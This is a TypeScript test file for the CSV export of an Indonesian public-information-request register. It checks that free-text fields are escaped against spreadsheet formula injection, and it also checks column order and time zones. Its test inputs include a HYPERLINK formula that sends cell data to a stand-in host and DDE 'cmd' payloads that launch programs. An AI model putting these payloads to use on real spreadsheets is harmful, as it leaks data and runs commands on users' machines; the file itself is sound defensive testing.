import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import Papa from 'papaparse';
import type { Baris } from './db/penyimpanan.js';
import { eksporCSV } from './ekspor.js';

// Values a requester (or an officer) could type, each with a newline after the formula: papaparse's
// own `escapeFormulae: true` lets every one of them through as a live formula.
const RUMUS = [
  '=HYPERLINK("http://jahat.example/?d="&A1,"klik")\nteks biasa',
  '@SUM(1+1)\nSiti',
  "+1+cmd|' /C calc'!A0\nlanjutan",
  "-2+3+cmd|' /C notepad'!A0\r\nx",
  '\t=1+1\nx',
  '\r=1+1',
  '\n=1+1',
  '  =1+1\nspasi di depan',
  '\u00a0@SUM(1)\nspasi tak terputus',
];

function baris(o: {
  kind?: 'permintaan' | 'keberatan';
  body?: Record<string, unknown>;
  jawab?: Record<string, unknown>;
}): Baris {
  const kind = o.kind ?? 'permintaan';
  return {
    id: 1,
    kind,
    agency: 'diskominfo',
    year: 2026,
    seq: 1,
    number: '001/PPID/III/2026',
    receivedAt: '2026-03-13T09:00:00+07:00',
    receivedOn: '2026-03-13',
    contactEmail: null,
    contactPhone: null,
    body: {
      requester: { kind: 'perorangan', name: 'Siti Aminah' },
      information: 'Profil dinas',
      purpose: 'Penelitian',
      requestNumber: '001/PPID/III/2026',
      caseSummary: 'Tidak dijawab',
      ...o.body,
    },
    receipt: {},
    status: 'selesai',
    deadline: '2026-03-27',
    history: {
      status: 'selesai',
      deadline: '2026-03-27',
      events: [
        { type: 'diterima', at: '2026-03-13T09:00:00+07:00' },
        {
          type: 'jawab',
          at: '2026-03-16T09:00:00+07:00',
          outcome: 'ditolak',
          grounds: ['h'],
          holder: 'Dinas Kesehatan',
          ...o.jawab,
        },
      ],
    },
    updatedAt: '2026-03-16T09:00:00+07:00',
  };
}

/** The one data row of the export, read back as a spreadsheet importer would split it. */
function baca(b: Baris): Record<string, string> {
  const p = Papa.parse<Record<string, string>>(eksporCSV([b], () => ({})).replace(/^\uFEFF/, ''), {
    header: true,
    skipEmptyLines: true,
  });
  assert.deepEqual(p.errors, []);
  assert.equal(p.data.length, 1);
  return p.data[0]!;
}

/** Every free-text field of the export, and how a value reaches it. */
const BIDANG: readonly [string, (v: string) => Baris, string][] = [
  ['Nama Pemohon', (v) => baris({ body: { requester: { kind: 'perorangan', name: v } } }), 'Nama Pemohon'],
  ['Rincian Informasi', (v) => baris({ body: { information: v } }), 'Rincian Informasi / Kasus Posisi'],
  ['Tujuan Penggunaan', (v) => baris({ body: { purpose: v } }), 'Tujuan Penggunaan'],
  ['Pemegang Informasi', (v) => baris({ jawab: { holder: v } }), 'Pemegang Informasi'],
  ['Alasan Penolakan', (v) => baris({ jawab: { grounds: [v] } }), 'Alasan Penolakan (Pasal 17)'],
  ['Konsekuensi', (v) => baris({ jawab: { consequence: v } }), 'Konsekuensi'],
  ['Undang-Undang Lain', (v) => baris({ jawab: { grounds: ['j'], otherLaw: v } }), 'Undang-Undang Lain'],
  ['Catatan Jawaban', (v) => baris({ jawab: { note: v } }), 'Catatan Jawaban'],
  [
    'Alasan Perpanjangan',
    (v) => ({
      ...baris({}),
      history: {
        status: 'dijawab',
        deadline: '2026-03-27',
        events: [{ type: 'perpanjang', at: '2026-03-16T02:00:00.000Z', reason: v }],
      },
    }),
    'Alasan Perpanjangan',
  ],
  [
    'Nomor permintaan dalam keberatan',
    (v) => baris({ kind: 'keberatan', body: { requestNumber: v } }),
    'Rincian Informasi / Kasus Posisi',
  ],
];

describe('CSV export: formula injection', () => {
  for (const [nama, buat, kolom] of BIDANG) {
    test(`${nama}: a formula followed by a newline is exported as text ('…)`, () => {
      for (const v of RUMUS) {
        const sel = baca(buat(v))[kolom]!;
        assert.ok(sel.startsWith("'"), `${JSON.stringify(v)} → ${JSON.stringify(sel)}`);
        // Nothing lost: the value follows the quote unchanged.
        assert.ok(sel.slice(1).startsWith(v), `${JSON.stringify(v)} → ${JSON.stringify(sel)}`);
      }
    });
  }

  test('ordinary text (also with newlines, or a minus inside) is left as it is', () => {
    for (const v of [
      'Siti Aminah',
      'Data anggaran\n2025-2026',
      'a=b',
      'Jl. Merdeka 1 - Sukamaju',
      ' spasi',
    ]) {
      assert.equal(baca(baris({ body: { information: v } }))['Rincian Informasi / Kasus Posisi'], v);
    }
  });
});

test('a partial grant keeps its note (the withheld parts and why, UU KIP Pasal 22 ayat 7) in "Catatan Jawaban"', () => {
  const catatan = 'Lampiran berisi NIK warga tidak diberikan; datanya belum ada dalam bentuk terpisah.';
  const r = baca(
    baris({ jawab: { outcome: 'dikabulkan-sebagian', grounds: [], holder: undefined, note: catatan } }),
  );
  assert.deepEqual([r['Hasil'], r['Catatan Jawaban']], ['dikabulkan-sebagian', catatan]);
  // The header names it in Bahasa Indonesia, as the other columns, last so the others keep their places.
  const kepala = eksporCSV([], () => ({}))
    .replace(/^\uFEFF/, '')
    .split('\r\n')[0]!
    .split(',');
  assert.equal(kepala.at(-2), 'Catatan Jawaban');
  assert.equal(kepala.at(-3), 'Undang-Undang Lain');
  // After it only the record's data note (an unreadable stored time), added later still.
  assert.equal(kepala.at(-1), 'Catatan Data');
});

describe('CSV export: times and the extension', () => {
  // Received 13 March (due 27 March), extended on 16 March (due 8 April), answered on 9 April at 09:00:02 WITA.
  const diterima = { type: 'diterima', at: '2026-03-13T01:00:00.000Z', deadline: '2026-03-27' };
  const perpanjang = {
    type: 'perpanjang',
    at: '2026-03-16T02:30:00.000Z',
    reason: 'Dokumen tersebar di tiga bidang',
    deadline: '2026-04-08',
  };
  const jawab = { type: 'jawab', at: '2026-04-09T01:00:02.565Z', outcome: 'dikabulkan' };
  const b: Baris = {
    ...baris({}),
    agency: 'kota-makassar',
    receivedAt: '2026-03-13T09:00:00+08:00',
    history: { status: 'dijawab', deadline: '2026-03-27', events: [diterima, perpanjang, jawab] },
  };
  const opsi = (a: string) => {
    assert.equal(a, 'kota-makassar');
    return { timeZone: 'Asia/Makassar' as const };
  };
  const baca1 = (x: Baris, o = opsi) =>
    Papa.parse<Record<string, string>>(eksporCSV([x], o).replace(/^\uFEFF/, ''), { header: true }).data[0]!;

  test('every time in the agency’s zone with its offset, as "Diterima" is; the extension and the late flag', () => {
    const r = baca1(b);
    assert.equal(r['Diterima'], '2026-03-13T09:00:00+08:00');
    assert.equal(r['Dijawab'], '2026-04-09T09:00:02+08:00');
    assert.equal(r['Diperpanjang'], '2026-03-16T10:30:00+08:00');
    assert.equal(r['Alasan Perpanjangan'], 'Dokumen tersebar di tiga bidang');
    assert.equal(r['Dijawab Terlambat'], 'ya');
  });

  test('no extension, not yet answered: those cells are empty; answered in time: "tidak"', () => {
    const belum = baca1({ ...b, history: { status: 'dijawab', deadline: '2026-03-27', events: [diterima] } });
    assert.deepEqual(
      [belum['Dijawab'], belum['Dijawab Terlambat'], belum['Diperpanjang'], belum['Alasan Perpanjangan']],
      ['', '', '', ''],
    );
    const tepat = baca1({
      ...b,
      history: {
        status: 'dijawab',
        deadline: '2026-03-27',
        events: [diterima, { ...jawab, at: '2026-03-27T08:00:00.000Z' }],
      },
    });
    assert.deepEqual([tepat['Dijawab'], tepat['Dijawab Terlambat']], ['2026-03-27T16:00:00+08:00', 'tidak']);
  });
});

describe('CSV export: what a refusal states', () => {
  test('"Konsekuensi" and "Undang-Undang Lain", after the columns before them (then "Catatan Jawaban", "Catatan Data"); empty for a refusal recorded before they were asked for', () => {
    const kepala = eksporCSV([], () => ({}))
      .replace(/^\uFEFF/, '')
      .trim()
      .split(',');
    assert.deepEqual(kepala.slice(-4, -2), ['Konsekuensi', 'Undang-Undang Lain']);
    const r = baca(
      baris({
        jawab: {
          grounds: ['h', 'j'],
          consequence: 'Membuka rekam medis mengungkap rahasia pribadi pasien.',
          otherLaw: 'UU 17/2023 tentang Kesehatan',
        },
      }),
    );
    assert.deepEqual(
      [r['Alasan Penolakan (Pasal 17)'], r['Konsekuensi'], r['Undang-Undang Lain']],
      ['h j', 'Membuka rekam medis mengungkap rahasia pribadi pasien.', 'UU 17/2023 tentang Kesehatan'],
    );
    const lama = baca(baris({}));
    assert.deepEqual([lama['Hasil'], lama['Konsekuensi'], lama['Undang-Undang Lain']], ['ditolak', '', '']);
  });
});
